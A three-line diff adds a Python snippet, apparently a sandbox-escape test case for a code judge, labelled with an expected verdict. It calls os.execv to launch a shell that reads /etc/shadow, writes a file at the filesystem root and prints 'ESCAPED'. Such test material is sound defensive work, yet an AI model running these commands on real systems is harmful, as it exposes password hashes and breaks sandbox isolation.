@@ -1,0 +1,3 @@
+# verdict: WA RTE
+import os
+os.execv('/bin/sh', ['sh', '-c', 'cat /etc/shadow; /bin/true; echo > /x; echo ESCAPED'])
